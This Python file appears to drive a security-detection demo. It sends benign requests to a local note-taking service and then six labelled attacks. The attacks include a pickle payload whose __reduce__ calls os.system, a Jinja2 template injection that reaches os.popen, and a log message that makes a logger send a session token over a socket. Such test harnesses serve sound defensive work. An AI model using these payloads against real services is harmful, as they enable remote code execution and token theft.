# SPDX-License-Identifier: Apache-2.0
"""Drives the demo's service over loopback: benign requests to learn from, other benign requests, and the attacks."""

import dataclasses
import http.client
import json
import os
import pickle


class Client:
    """One user's requests; counts what was asked and what was answered as it should be."""

    def __init__(self, port):
        self.port = port
        self.token = ""
        self.asked = self.answered = 0
        self.wrong = []

    def send(self, method, path, body=None, expect=(200, 201, 204)):
        """One request; returns (status, text). A refused or lost connection is status 0."""
        self.asked += 1
        data = body if isinstance(body, bytes) or body is None else json.dumps(body).encode()
        headers = {"Authorization": self.token}
        if data is not None and not isinstance(body, bytes):
            headers["Content-Type"] = "application/json"
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=15)
        try:
            connection.request(method, path, data, headers)
            answer = connection.getresponse()
            status, text = answer.status, answer.read().decode(errors="replace")
        except OSError as error:
            status, text = 0, str(error)
        finally:
            connection.close()
        if status in expect:
            self.answered += 1
        else:
            self.wrong.append(f"{method} {path}: {status} {text[:120]}")
        return status, text

    def enter(self, user, password):
        self.send("POST", "/register", {"user": user, "password": password})
        status, text = self.send("POST", "/login", {"user": user, "password": password})
        self.token = json.loads(text).get("token", "") if status == 200 else ""


def benign_to_learn(port, listener_port):
    """One pass over what the service is for."""
    client = Client(port)
    client.send("GET", "/health")
    client.enter("ada", "correct horse")
    for text in ("buy milk", "call Bob"):
        client.send("POST", "/notes", {"text": text})
    client.send("GET", "/notes")
    client.send("GET", "/page")
    client.send("POST", "/render", {"template": "Hello {{ user }}"})
    client.send("POST", "/import", pickle.dumps({"text": "imported"}))
    client.send("POST", "/attachments/first.txt", b"an attachment")
    client.send("GET", "/attachments/first.txt")
    client.send("POST", "/log", {"message": "an ordinary line"})
    client.send("POST", "/say", {"message": "good morning"})
    client.send("POST", "/plugin/count", {"text": "one two three"})
    client.send("POST", "/plugin/title", {"text": "one two three"})
    client.send("GET", "/checksum")
    client.send("POST", f"/notify/{listener_port}", {"text": "learned something"})
    return client


def benign_other(port, listener_port):
    """Other users, other inputs, other paths through the code, errors among them."""
    client = Client(port)
    for user in ("björn", "chloé", "dmitri"):
        client.enter(user, user * 3)
        for number in range(8):
            client.send("POST", "/notes", {"text": f"{user} note {number} " + "x" * (number * 300)})
        _, text = client.send("GET", "/notes?like=note%203")
        for note in json.loads(text):
            client.send("DELETE", f"/notes/{note['id']}")
        client.send("DELETE", "/notes/999999", expect=(404,))
        client.send("GET", "/page")
    client.send("POST", "/login", {"user": "nobody", "password": "no"}, expect=(401,))
    client.send("GET", "/nowhere", expect=(404,))
    client.send("PUT", "/notes", {"text": "x"}, expect=(405,))
    client.send("POST", "/render", {"template": "{% for n in range(3) %}{{ n|e }},{% endfor %}{{ user|upper|center(20) }}"})
    client.send("POST", "/import", pickle.dumps([{"text": "a"}, {"text": "b", "tags": ("x", 1.5)}]))
    client.send("POST", "/attachments/big.bin", os.urandom(200_000))
    client.send("POST", "/attachments/aside.bin?keep=aside", os.urandom(1000))
    client.send("GET", "/attachments/big.bin")
    client.send("GET", "/attachments/missing.bin", expect=(404, 500))
    client.send("POST", "/log", {"message": "another line, with ${an ordinary} dollar and a ünicode letter"})
    client.send("POST", "/say", {"message": "good evening, " * 50})
    client.send("POST", "/plugin/count", {"text": "word " * 1000})
    client.send("GET", "/checksum")
    client.send("POST", f"/notify/{listener_port}", {"text": "told again " * 100})
    return client


def benign_new(port, listener_port):
    """A feature that nobody used before: a link to the newest attachment. A refusal is an answer, too."""
    client = Client(port)
    client.send("GET", "/health")
    client.send("POST", "/attachments/newest.bin?link=newest", b"an attachment", expect=(201, 500))
    return client


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    method: str
    path: str
    body: object
    culprits: tuple
    over_network: bool = False


class Payload:
    """A pickle that starts a shell when it is read."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def attacks(command, listener_port, token):
    """The six attacks; each tries to run `command`, or to tell the listener the token."""
    injection = "{{ cycler.__init__.__globals__.os.popen(%s).read() }}" % json.dumps(command)
    return [
        Attack("back door of simple_library", "POST", "/say", {"message": "hi", "deviate": True},
               ("pkg:pypi/simple-library",)),
        Attack("pickle payload (os.system)", "POST", "/import", pickle.dumps(Payload(command)), ("application",)),
        Attack("template injection", "POST", "/render", {"template": injection}, ("pkg:pypi/jinja2",)),
        Attack("thread with os.system as target", "POST", "/plugin/background", {"text": command},
               ("pkg:pypi/simple-library",)),
        Attack("logger that opens a socket", "POST", "/log", {"message": "${wire:%d} %s" % (listener_port, token)},
               ("pkg:pypi/wirelog",), over_network=True),
        Attack("forged code object", "POST", "/plugin/forged", {"text": command}, ("pkg:pypi/simple-library",)),
    ]
